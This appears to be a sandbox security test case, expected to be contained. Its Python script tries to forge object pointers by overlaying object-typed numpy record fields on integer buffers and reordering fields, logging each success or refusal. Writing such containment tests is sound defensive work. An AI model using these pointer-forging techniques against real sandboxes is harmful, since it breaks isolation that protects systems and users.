# class: numpy_raw_memory
# expect: contained
# attack: records with an object field laid over a buffer of integers (ndarray(buffer=, dtype=[('o','O')]), dtype strings longer than 16 characters, astype to records) to forge object pointers
names = get_object_name_list()
forged = []
record_types = [
    [("o", "O")],
    "O,O,O,O,O,O,O,O,O,O",  # a structured dtype spelled in more than 16 characters
    {"names": ["o", "n"], "formats": ["O", "i8"], "offsets": [0, 0]},
]
for record in record_types:
    for make in (
        lambda: np.ndarray((1,), dtype=record, buffer=np.array([0x41414141], dtype=np.int64)),
        lambda: np.zeros(1, dtype=np.int64).astype(record),
        lambda: np.array([(1,) * 10], dtype=record),
        lambda: np.full(1, 7, dtype=record),
    ):
        try:
            made = make()
            forged.append(made)
            first = made[0]
            print("made", record, "->", repr(first)[:60])
        except Exception as exc:
            print("refused", str(exc)[:80])

# with a record of an object next to an integer, write the integer and read the object
pairs = np.zeros(2).astype([("o", "O"), ("n", "i8")])
pairs["n"] = 0x41414141
try:
    swapped = pairs.astype([("n", "i8"), ("o", "O")])
    print(swapped["o"][0])
except Exception as exc:
    print("refused", str(exc)[:80])
print("names", names)
